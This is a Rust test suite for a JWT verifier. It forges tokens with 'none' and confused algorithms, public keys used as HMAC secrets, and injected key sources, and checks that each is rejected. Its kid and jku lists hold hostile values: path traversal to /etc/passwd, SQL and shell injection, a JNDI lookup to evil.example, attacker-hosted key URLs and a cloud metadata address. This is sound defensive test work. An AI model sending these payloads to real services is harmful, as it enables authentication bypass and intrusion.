//! J1 to J4: the header may choose neither algorithm nor key.

use aws_lc_rs::hmac;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use tower_warden::authn::jwt::TokenError::{
    AlgorithmNotAllowed, CriticalHeader, Malformed, Signature, TooLong, UnknownKey,
};
use tower_warden::testing::TestIssuer;

use super::Chapter;
use super::victim::{claims_with, encode, good, parts};

pub(super) fn write(table: &mut Chapter<'_>) {
    none(table);
    other_algorithms(table);
    public_keys_as_secrets(table);
    key_ids(table);
    keys_brought_along(table);
    critical(table);
}

fn none(table: &mut Chapter<'_>) {
    let [_, payload, signature] = parts(&table.victims.good().sign());
    for none in ["none", "None", "NONE", "nOnE", "nonE", "none ", " none", "none\u{0}", "n\u{f6}ne"]
    {
        let header = encode(json!({"alg": none, "typ": "at+jwt"}).to_string());
        for (how, end) in [("unsigned", ""), ("with a signature", &*signature)] {
            let token = format!("{header}.{payload}.{end}");
            table.add(format!("J1 {none:?} {how}"), token, AlgorithmNotAllowed);
        }
        let signed = table.victims.good().header("alg", none).sign();
        table.add(format!("J1 {none:?} and a good signature"), signed, AlgorithmNotAllowed);
    }
    let escaped = encode(r#"{"alg":"\u006eone","typ":"at+jwt"}"#);
    table.add("J1 none with an escape", format!("{escaped}.{payload}."), AlgorithmNotAllowed);
    let two_parts = encode(r#"{"alg":"none"}"#);
    table.add("J1 none in two parts", format!("{two_parts}.{payload}"), Malformed);
    for victim in ["RS256", "Ed25519", "HS256", "any RSA"] {
        let header = encode(r#"{"alg":"none","typ":"at+jwt"}"#);
        let token = format!("{header}.{payload}.");
        table.against(victim, "J1 none", token, AlgorithmNotAllowed);
    }
}

fn other_algorithms(table: &mut Chapter<'_>) {
    let victims = table.victims;
    for other in [
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES384",
        "ES512",
        "EdDSA",
        "Ed25519",
        "Ed448",
        "ES256K",
        "es256",
        "Es256",
        "ES256 ",
        " ES256",
        "ES-256",
        "ES256,none",
        "ES256\u{0}",
        "",
        "A128KW",
        "RSA1_5",
        "dir",
        "SHA256withECDSA",
        "*",
        "ESP256",
    ] {
        let token = victims.good().header("alg", other).sign();
        table.add(format!("J1 alg {other:?}"), token, AlgorithmNotAllowed);
    }
    for (name, value) in [
        ("a number", json!(256)),
        ("null", Value::Null),
        ("a list", json!(["ES256"])),
        ("an object", json!({"name": "ES256"})),
        ("true", json!(true)),
    ] {
        let token = victims.good().header("alg", value).sign();
        table.add(format!("J1 alg is {name}"), token, Malformed);
    }
    table.add("J1 no alg", victims.good().without_header("alg").sign(), Malformed);
    table.add(
        "J1 ALG",
        victims.good().without_header("alg").header("ALG", "ES256").sign(),
        Malformed,
    );
    let eddsa = good(&victims.ed25519).header("alg", "EdDSA").sign();
    table.against("Ed25519", "J1 the older name of the algorithm", eddsa, AlgorithmNotAllowed);

    // One RSA key, two ways to sign with it: a signature is one of its own algorithm alone.
    for other in ["PS256", "RS384", "RS512", "PS512"] {
        let token = good(&victims.rs256).header("alg", other).sign();
        table.against("RS256", format!("J1 alg {other}"), token.clone(), AlgorithmNotAllowed);
        table.against("any RSA", format!("J1 {other} signed as RS256"), token, Signature);
    }
    for other in ["HS256", "ES256", "EdDSA"] {
        let token = good(&victims.rs256).header("alg", other).sign();
        table.against("any RSA", format!("J1 alg {other}"), token, AlgorithmNotAllowed);
    }
}

/// The confusion of a public key with a secret (RFC 8725 2.1, CVE-2015-9235, CVE-2016-10555, CVE-2026-39999).
fn public_keys_as_secrets(table: &mut Chapter<'_>) {
    let victims = table.victims;
    for (victim, signer) in [
        ("RS256", &victims.rs256),
        ("ES256", &victims.es256),
        ("Ed25519", &victims.ed25519),
        ("any RSA", &victims.rs256),
    ] {
        for (form, secret) in public_forms(signer) {
            for (alg, hash) in [
                ("HS256", hmac::HMAC_SHA256),
                ("HS384", hmac::HMAC_SHA384),
                ("HS512", hmac::HMAC_SHA512),
            ] {
                let header = json!({"alg": alg, "typ": "at+jwt", "kid": format!("test-{victim}")});
                let signed = format!("{}.{}", encode(header.to_string()), encode(claims_with("")));
                let tag = hmac::sign(&hmac::Key::new(hash, &secret), signed.as_bytes());
                let token = format!("{signed}.{}", encode(tag));
                table.against(victim, format!("J2 {alg} with {form}"), token, AlgorithmNotAllowed);
            }
        }
    }
    // Secrets that come to mind.
    let signed =
        format!("{}.{}", encode(r#"{"alg":"HS256","typ":"at+jwt"}"#), encode(claims_with("")));
    let zeros = [0; 32];
    for secret in [&b""[..], b"secret", b"changeme", b"your-256-bit-secret", b"null", &zeros] {
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), signed.as_bytes());
        let name = format!("J2 signed with {:?}", String::from_utf8_lossy(secret));
        table.against("HS256", name, format!("{signed}.{}", encode(tag)), Signature);
    }
}

/// The forms in which a public key lies around.
fn public_forms(signer: &TestIssuer) -> Vec<(&'static str, Vec<u8>)> {
    let pem = signer.public_key_pem();
    let base64: String = pem.lines().filter(|line| !line.starts_with('-')).collect();
    let jwk = signer.public_jwk();
    let coordinate = ["n", "x"].iter().find_map(|name| jwk[*name].as_str()).unwrap();
    vec![
        ("the public key in PEM", pem.clone().into_bytes()),
        ("the public key in PEM without the last line break", pem.trim_end().into()),
        ("the base64 of the public key", base64.clone().into_bytes()),
        ("the public key in DER", STANDARD.decode(&base64).unwrap()),
        ("the public key as a JWK", jwk.to_string().into_bytes()),
        ("the key set", json!({"keys": [jwk]}).to_string().into_bytes()),
        ("the public number", coordinate.as_bytes().to_vec()),
    ]
}

fn key_ids(table: &mut Chapter<'_>) {
    let victims = table.victims;
    for kid in [
        "other",
        "",
        " ",
        "test-es256",
        "test-ES256 ",
        "test-ES256\u{0}",
        "test-ES256\n",
        "test-ES25",
        "test-ES2566",
        "t\u{435}st-ES256", // the second letter is Cyrillic
        "test-ES256\u{200b}",
        "test\u{2010}ES256",
        "test%2DES256",
        "../../../../dev/null",
        "..\\..\\windows\\win.ini",
        "/proc/self/environ",
        "file:///etc/passwd",
        "https://evil.example/key.pem",
        "' OR '1'='1",
        "x' UNION SELECT 'AAAA' -- ",
        "test-ES256'; DROP TABLE keys; --",
        "| sleep 10",
        "$(sleep 10)",
        "`id`",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%s%s%s%n",
        "__proto__",
        "*",
        "test-*",
        "\u{202e}652SE-tset",
        "\u{1f511}",
    ] {
        let token = victims.good().header("kid", kid).sign();
        table.add(format!("J2 kid {kid:?}"), token, UnknownKey);
    }
    let of = |length: usize| victims.good().header("kid", "k".repeat(length)).sign();
    table.add("J2 a kid of 2,900 letters", of(2_900), UnknownKey);
    table.add("J2 a kid of 8,000 letters", of(8_000), TooLong);
    for (name, value) in [
        ("a number", json!(1)),
        ("null", Value::Null),
        ("true", json!(true)),
        ("a list", json!(["test-ES256"])),
        ("an object", json!({"$ne": null})),
    ] {
        let token = victims.good().header("kid", value).sign();
        table.add(format!("J2 kid is {name}"), token, Malformed);
    }
}

/// RFC 8725 3.10, CVE-2018-0114.
fn keys_brought_along(table: &mut Chapter<'_>) {
    let victims = table.victims;
    let jwk = victims.stranger.public_jwk();
    let set = json!({"keys": [jwk]}).to_string();
    let forged = || good(&victims.stranger);
    for (name, value) in [
        ("jwk", jwk.clone()),
        ("jwk", json!({"kty": "oct", "k": "AAAA"})),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("https://issuer.example@evil.example/jwks.json")),
        ("jku", json!("https://issuer.example.evil.example/jwks.json")),
        ("jku", json!("https://issuer.example/redirect?to=https://evil.example/jwks.json")),
        ("jku", json!("http://169.254.169.254/latest/meta-data/")),
        ("jku", json!("file:///etc/passwd")),
        ("jku", json!(format!("data:application/json,{set}"))),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["MIIBbTCCAROgAwIBAgIUN38hLbTQdQHi4rxveLP43rR08mMwCgYIKoZIzj0EAwIw"])),
        ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("x5t#S256", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("keys", json!([jwk.clone()])),
        ("epk", jwk.clone()),
        ("trust_chain", json!(["eyJhbGciOiJub25lIn0.e30."])),
    ] {
        let shown = value.to_string();
        let shown = &shown[..shown.len().min(60)];
        // It names the service's own key and hopes that another is taken.
        let token = forged().header(name, value.clone()).sign();
        table.add(format!("J3 {name} {shown}"), token, Signature);
        let named = forged().header(name, value.clone()).header("kid", "mine").sign();
        table.add(format!("J3 {name} {shown} with a kid of its own"), named, UnknownKey);
        let unnamed = forged().header(name, value).without_header("kid").sign();
        table.add(format!("J3 {name} {shown} without a kid"), unnamed, Signature);
    }
    table.add("J3 nothing but the attacker's signature", forged().sign(), Signature);
}

/// RFC 7515 4.1.11, GHSA-9ggr-2464-2j32.
fn critical(table: &mut Chapter<'_>) {
    let victims = table.victims;
    for value in [
        json!(["exp"]),
        json!([]),
        json!(["b64"]),
        json!(["alg"]),
        json!(["crit"]),
        json!(["http://example.com/UNDEFINED"]),
        json!(["x", "x"]),
        json!([""]),
        json!([1]),
        json!([null]),
        json!([["exp"]]),
        json!("exp"),
        json!({}),
        json!({"exp": true}),
        Value::Null,
        json!(false),
        json!(0),
    ] {
        let token = victims.good().header("crit", value.clone()).sign();
        table.add(format!("J4 crit {value}"), token, CriticalHeader);
    }
    for (name, header) in [
        ("with the extension at hand", r#"{"alg":"ES256","typ":"at+jwt","crit":["x"],"x":1}"#),
        ("before alg", r#"{"crit":["x"],"alg":"ES256","typ":"at+jwt"}"#),
        ("with an escape", r#"{"alg":"ES256","typ":"at+jwt","\u0063rit":["x"]}"#),
        ("that b64 belongs to", r#"{"alg":"ES256","typ":"at+jwt","b64":false,"crit":["b64"]}"#),
        (
            "that b64 belongs to, after it",
            r#"{"alg":"ES256","typ":"at+jwt","crit":["b64"],"b64":true}"#,
        ),
        ("and an algorithm that nobody knows", r#"{"alg":"none","crit":["x"]}"#),
    ] {
        let token = victims.sign_both(header, claims_with(""));
        table.add(format!("J4 crit {name}"), token, CriticalHeader);
    }
}
